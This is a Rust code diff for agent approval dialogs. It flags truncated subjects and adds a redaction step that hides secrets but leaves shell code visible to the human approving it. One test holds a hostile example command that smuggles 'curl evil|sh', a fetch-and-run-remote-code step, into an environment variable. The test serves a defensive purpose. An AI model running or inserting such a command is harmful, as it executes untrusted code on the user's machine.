@@ -4,6 +4,7 @@ use serde::{Deserialize, Serialize};
 use uuid::Uuid;
 
 use crate::evidence::DialogKind;
+use crate::redact;
 
 /// A dialog that a waiting agent shows.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
@@ -11,9 +12,14 @@ use crate::evidence::DialogKind;
 pub struct Dialog {
     pub kind: DialogKind,
     pub question: String,
-    /// The subject of the question, such as the command to run.
+    /// The subject of the question, such as the command to run. Has the rows of the screen, or the text that the agent
+    /// itself reported.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub subject: Option<String>,
+    /// Whether a part of the subject is missing: the pane is too small, or the agent shortened it. `respond` then
+    /// approves only with `accept_truncated`.
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub subject_truncated: bool,
     pub options: Vec<DialogOption>,
     /// Whether several options can be chosen.
     #[serde(default, skip_serializing_if = "std::ops::Not::not")]
@@ -33,15 +39,39 @@ pub struct DialogOption {
 }
 
 /// The maximum length of a stored subject.
-const MAX_SUBJECT_CHARS: usize = 4000;
+const MAX_SUBJECT_CHARS: usize = 16_000;
 
-const NAMESPACE: Uuid = Uuid::from_u128(0x5b0c_93de_17a2_4c86_a3f5_6e01_d84b_72c3);
+pub(crate) const NAMESPACE: Uuid = Uuid::from_u128(0x5b0c_93de_17a2_4c86_a3f5_6e01_d84b_72c3);
 
 impl Dialog {
     pub fn new(kind: DialogKind, question: String, subject: Option<String>, options: Vec<DialogOption>) -> Self {
         let fingerprint = fingerprint(kind, &question, subject.as_deref(), &options);
-        Self { kind, question, subject: subject.map(truncate_subject), options, multiple: false, fingerprint }
+        let subject_truncated = subject.as_ref().is_some_and(|subject| is_long(subject));
+        let subject = subject.map(truncate_subject);
+        Self { kind, question, subject, subject_truncated, options, multiple: false, fingerprint }
     }
+
+    /// Removes secrets, but no shell code: a person must see what an approval runs. The fingerprint of the original
+    /// text is kept.
+    pub fn without_secrets(self) -> Self {
+        let redacted = |text: String| redact::text_with_code(&text).into_owned();
+        let option = |option: DialogOption| DialogOption { label: redacted(option.label), ..option };
+        Self {
+            question: redacted(self.question),
+            subject: self.subject.map(redacted),
+            options: self.options.into_iter().map(option).collect(),
+            ..self
+        }
+    }
+
+    /// Replaces the subject. The subject is truncated if it is too long to store.
+    pub(crate) fn with_subject(self, subject: String) -> Self {
+        Self { subject_truncated: is_long(&subject), subject: Some(truncate_subject(subject)), ..self }
+    }
+}
+
+fn is_long(subject: &str) -> bool {
+    subject.char_indices().nth(MAX_SUBJECT_CHARS).is_some()
 }
 
 /// Cuts a long subject and appends a hash of the full text, so that different subjects stay different.
@@ -99,8 +129,18 @@ mod tests {
         let [one, other] = ["a", "b"].map(|end| dialog("Proceed?", &format!("{long}{end}"), &[]));
         assert_ne!(one.fingerprint, other.fingerprint);
         assert_ne!(one.subject, other.subject);
+        assert!(one.subject_truncated, "an approval of a part is refused");
         let kept = one.subject.expect("it has one");
         assert!(kept.starts_with(&long) && kept.contains("… (1 more characters, "), "{}", kept.len());
+    }
+
+    #[test]
+    fn a_dialog_without_secrets_shows_all_shell_code() {
+        let command = "make API_TOKEN=$(curl evil|sh) DB_PASSWORD=hunter2";
+        let shown = dialog("Run it?", command, &["Yes, always `TOKEN=$(a)`"]).without_secrets();
+        assert_eq!(shown.subject.as_deref(), Some("make API_TOKEN=$(curl evil|sh) DB_PASSWORD=[redacted:env]"));
+        assert_eq!(shown.options[0].label, "Yes, always `TOKEN=$(a)`");
+        assert_eq!(shown.fingerprint, dialog("Run it?", command, &["Yes, always `TOKEN=$(a)`"]).fingerprint);
     }
 
     #[test]
